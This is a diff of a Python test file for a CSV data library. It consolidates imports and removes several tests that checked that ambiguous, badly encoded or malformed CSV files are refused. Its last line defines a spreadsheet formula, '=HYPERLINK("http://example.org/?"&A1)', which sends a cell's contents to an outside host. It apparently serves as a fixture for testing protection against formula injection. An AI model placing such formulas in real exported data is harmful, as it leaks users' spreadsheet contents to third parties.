@@ -13,8 +13,7 @@ from hypothesis import strategies as st
 from fedul_flwr.data.columns import Column, Columns
 from fedul_flwr.data.csv_files import open_csv, plain_numbers, read_cell, read_csv_rows, write_cell
 from fedul_flwr.data.encode import encode
-from fedul_flwr.data.local_data import load_unlabeled_sets
-from fedul_flwr.data.local_files import read_rows
+from fedul_flwr.data.local_data import load_unlabeled_sets, read_rows
 from fedul_flwr.data.run_files.label_files import read_labels, write_labels
 from fedul_flwr.data.sources import load_source
 from fedul_flwr.data.table_files import read_table
@@ -114,46 +113,6 @@ def test_numbers_whose_meaning_the_file_shows(
     assert [column.to_pylist() for column in found.columns] == numbers
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "a;b\n1.234;2,5\n",
-        "a;b\n1.234;2\n",
-        'a,b\n"1,234",2\n',
-        'a,b\n1,"x\ny"\n"1,5",z\n2.5,z\n',
-        "a;b\n1,5;37.25\n",
-    ],
-)
-def test_numbers_that_may_mean_two_things_are_refused(text: str, tmp_path: Path) -> None:
-    (tmp_path / "a.csv").write_text(text)
-    names = [name for name in ("a", "b") if "x" not in text or name == "a"]
-    with refuses("decimal-mark"):
-        plain_numbers(open_csv(tmp_path / "a.csv"), names)
-
-
-@pytest.mark.parametrize(
-    ("content", "code"),
-    [
-        (b"a,b\nx,\n\xc3\xb6,\xf6\n", "csv-encoding"),
-        ("a,b\n1,Привет\n".encode("cp1251"), "csv-encoding"),
-        ("a,b\n1,2\n".encode("utf-16-le"), "csv-encoding"),
-        (b"PK\x03\x04rest", "file-not-readable"),
-        (b"a,b\n1,2\n3\n", "csv-ragged-row"),
-        (b"Report\na;b\n1;2\n", "csv-ragged-row"),
-        (b"a,x;b,y\n1,p;q,2\n", "csv-separator"),
-        (b"#a,b\nc,d\ne,f\n", "csv-header"),
-        (b"\n\n", "csv-header"),
-    ],
-)
-def test_files_that_cannot_be_read_for_sure_are_refused_with_the_cause(
-    content: bytes, code: str, tmp_path: Path
-) -> None:
-    (tmp_path / "a.csv").write_bytes(content)
-    with refuses(code) as caught:
-        open_csv(tmp_path / "a.csv")
-    assert "\n" not in str(caught.value)
-
-
 @pytest.mark.parametrize("extra", ["x,x,", '"note\nfree",id,', "date;time,1.234,", "kg,kg,"])
 def test_given_columns_that_the_run_leaves_out_then_nothing_in_them_is_refused(
     extra: str, tmp_path: Path
@@ -178,9 +137,6 @@ def test_sets_and_their_priors_in_german_and_in_capitals(tmp_path: Path) -> None
         "JAN.CSV, JUN.CSV: separated by ;, decimal comma",
         "PRIORS.CSV: separated by ;",
     )
-    (tmp_path / "JAN.csv").write_text("a;b\n1,5;2\n")
-    with refuses("files-contradict"):
-        load_unlabeled_sets(tmp_path, ["ill", "sound"], 2, (2,), table=options)
 
 
 def test_a_point_that_nothing_explains_is_refused_beside_a_decimal_comma(tmp_path: Path) -> None:
@@ -203,20 +159,6 @@ def test_rows_keep_texts_that_tables_take_as_missing(end: str, tmp_path: Path) -
     (tmp_path / "labels.csv").write_text(f"name,label{end}\nNA,null{end}\na,{end}\n")
     rows = [["name", "label"], ["NA", "null"], ["a", ""]]
     assert read_csv_rows(tmp_path / "labels.csv") == (rows, "")
-
-
-@pytest.mark.parametrize(
-    ("text", "line"),
-    [
-        ('a,b\n1,"x\n2,y\n3,z\n', 2),  # to the end of the file
-        ('a,b\n1,x\n2,"y\n3,"z\n4,w\n', 3),  # to the next quote, and valid but for what follows
-        ('# by hand\na,b\n1,x\n"2,y\n3,z\n', 4),
-    ],
-)
-def test_given_an_open_quote_then_no_row_is_swallowed(text: str, line: int, tmp_path: Path) -> None:
-    (tmp_path / "a.csv").write_text(text)
-    with refuses("csv-quote"):
-        open_csv(tmp_path / "a.csv")
 
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
